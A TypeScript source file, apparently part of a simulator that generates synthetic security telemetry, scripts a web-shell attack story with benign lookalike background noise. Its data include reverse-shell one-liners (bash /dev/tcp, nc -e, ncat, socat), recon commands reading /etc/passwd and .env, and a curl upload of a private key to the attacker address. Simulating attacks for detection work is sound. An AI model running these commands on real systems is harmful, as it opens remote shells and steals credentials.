import { touch } from "../events/file-event.ts";
import { connect } from "../events/network-event.ts";
import type { SocketSpec } from "../events/network-event.ts";
import { daemon, run } from "../events/process-event.ts";
import type { Process } from "../events/audit-event.ts";
import { listedConnection } from "../events/threat-intel-event.ts";
import type { Host } from "../hosts.ts";
import { inventedWord, strangePort } from "../props.ts";
import { PARTNERS } from "../routine/application-traffic.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, cause, wait } from "../scene.ts";
import type { Scene, Script, Stage } from "../scene.ts";
import { HOUR_MS, MINUTE_MS } from "../../seeded/time.ts";
import { serviceAccount } from "../unix-account.ts";
import { cleanHost } from "./response.ts";
import { castHost, factsOf, momentOf, tell } from "./story.ts";
import type { Backdrop, Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly ip: string;
  readonly port: number;
  readonly shellFile: string;
  /** The command line that opens the reverse shell. */
  readonly line: string;
  readonly program: string;
  readonly secret: string;
  /** Number of the shell's process, which another one had hours before. */
  readonly pid: number;
}

const WWW = serviceAccount("www-data");
const FOLDERS = ["uploads", "media", "wp-content/uploads", "files/tmp", "images/cache", "avatars"];
const SECRETS = ["site.key", "wildcard.key", "www.key", "partner-api.pem", "jwt-signing.key"];

/** A program uploaded through a web form runs commands, then calls home. */
export function webShell(options: StoryOptions): Story {
  const { world, random, start } = options;
  const ip = strangerAddress(random);
  const port = strangePort(random);
  const [program, line] = random.pick([
    ["bash", `bash -i >& /dev/tcp/${ip}/${port} 0>&1`],
    ["nc", `nc -e /bin/sh ${ip} ${port}`],
    ["ncat", `ncat ${ip} ${port} -e /bin/bash`],
    ["socat", `socat exec:sh,pty,stderr tcp:${ip}:${port}`],
  ] as const);
  const cast: Cast = {
    host: castHost(options, world.hostsOf("web")),
    ip,
    port,
    program,
    line,
    shellFile: `/var/www/html/${random.pick(FOLDERS)}/${inventedWord(random)}${random.int(2, 99)}.php`,
    secret: `/etc/ssl/private/${random.pick(SECRETS)}`,
    pid: random.int(4000, 30_000),
  };
  const reverseAt = start + random.int(12, 30) * MINUTE_MS;
  const { host, shellFile, secret } = cast;
  return tell(options, {
    id: "web-shell",
    kind: "attack",
    platforms: ["linux"],
    rootCause: `the web server of ${host.name} wrote ${shellFile}`,
    backdrops: backdropsOf(cast, start),
    chapters: [
      {
        name: "upload",
        start,
        deed: `${shellFile} was uploaded to ${host.name} and ran commands`,
        facts: factsOf(
          ["object", shellFile],
          ["user", WWW.user],
          ["host", host.name],
          ["command", "sh -c uname -a"],
          ["time", momentOf(start)],
        ),
        perform: (stage) => upload(stage, cast),
      },
      {
        name: "call-home",
        start: reverseAt,
        deed: `it opened a shell to ${ip} and sent ${secret}`,
        facts: factsOf(
          ["address", ip],
          ["tool", `/usr/bin/${program}`],
          ["command", line],
          ["object", secret],
          ["time", momentOf(reverseAt)],
        ),
        perform: (stage) => callHome(stage, cast),
      },
    ],
    response: cleanHost({ host, lines: [`rm -f ${shellFile}`, "systemctl restart php8.1-fpm"] }),
  });
}

function fpm(scene: Scene): Process {
  return daemon(scene, "/usr/sbin/php-fpm8.1");
}

function backdropsOf(cast: Cast, start: number): Backdrop[] {
  return [
    {
      name: "thumbnails",
      start: start - 90 * MINUTE_MS,
      perform: (stage) => makeThumbnails(stage, cast),
    },
    { name: "partners", start: start - 2 * HOUR_MS, perform: (stage) => askPartners(stage, cast) },
  ];
}

// What the site always does: it looks like the attack and is suppressed. The first has the number of a later one.
function* makeThumbnails(stage: Stage, { host, pid }: Cast): Script {
  const scene = atHost(stage, host);
  const argv = ["sh", "-c", "/usr/local/bin/rotate-thumbnails"];
  const spec = { as: WWW, exe: "/bin/sh", argv, parent: fpm(scene), cwd: "/var/www/html" };
  yield* run(scene, { ...spec, pid });
  for (let index = 0; index < 30; index += 1) {
    wait(stage, 2 * MINUTE_MS, 6 * MINUTE_MS);
    yield* run(scene, spec);
  }
}

// The site asks its partners for prices and maps, request after request.
function* askPartners(stage: Stage, { host }: Cast): Script {
  const scene = atHost(stage, host);
  for (let index = 0; index < 220; index += 1) {
    yield connect(scene, { ...fpmSocket(scene), remote: stage.random.pick(PARTNERS) });
    wait(stage, 4000, 90_000);
  }
}

function fpmSocket(scene: Scene): Omit<SocketSpec, "remote"> {
  const parent = daemon(scene, "/usr/lib/systemd/systemd");
  return { as: WWW, process: fpm(scene), argv: ["php-fpm: pool www"], parent };
}

const LOOKS = [
  "uname -a",
  "id",
  "cat /etc/passwd",
  "ls -la /var/www/html",
  "ip addr",
  "find / -perm -4000",
  "cat /var/www/html/.env",
  "netstat -antp",
  "ps aux",
  "df -h",
];

function* upload(stage: Stage, cast: Cast): Script {
  const scene = atHost(stage, cast.host);
  const spec = { as: WWW, process: fpm(scene), argv: ["php-fpm: pool www"] };
  const filename = cast.shellFile;
  yield cause(stage, touch(scene, { ...spec, filename, action: "create" }));
  wait(stage, 5, 40);
  yield touch(scene, { ...spec, filename, action: "modify" });
  yield connect(scene, { ...fpmSocket(scene), remote: { ip: cast.ip, port: 80 } });
  for (const line of ["uname -a", ...stage.random.sample(LOOKS.slice(1), 5)]) {
    wait(stage, 8000, 70_000);
    yield* viaShell(scene, { line });
  }
}

// Each request to the web shell is a shell of its own that starts the program asked for.
function* viaShell(scene: Scene, { line, pid }: { line: string; pid?: number }): Script<Process> {
  const base = { as: WWW, cwd: "/var/www/html/uploads" };
  const shell = yield* run(scene, {
    ...base,
    exe: "/bin/sh",
    argv: ["sh", "-c", line],
    parent: fpm(scene),
    ...(pid !== undefined && { pid }),
  });
  wait(scene, 2, 20);
  const argv = line.split(" ");
  return yield* run(scene, { ...base, exe: `/usr/bin/${argv[0]}`, argv, parent: shell });
}

function* callHome(stage: Stage, cast: Cast): Script {
  const { ip, port, line, secret, pid } = cast;
  const scene = atHost(stage, cast.host);
  const process = yield* viaShell(scene, { line, pid });
  const spec = { as: WWW, process, argv: line.split(" "), parent: fpm(scene) };
  yield connect(scene, { ...spec, remote: { ip, port } });
  const list = { source: "emerging-example", reason: "command and control", type: "c2" };
  yield listedConnection(scene, { as: WWW, process, ip, port, direction: "outbound", list });
  for (const argv of [
    ["whoami"],
    ["cat", secret],
    ["curl", "-F", `f=@${secret}`, `http://${ip}/in`],
  ]) {
    wait(stage, 10_000, 80_000);
    const exe = `/usr/bin/${argv[0]}`;
    const child = yield* run(scene, { as: WWW, exe, argv, parent: process, cwd: "/var/www/html" });
    if (argv[0] !== "cat") continue;
    yield touch(scene, { as: WWW, process: child, argv, filename: secret, action: "open" });
  }
}
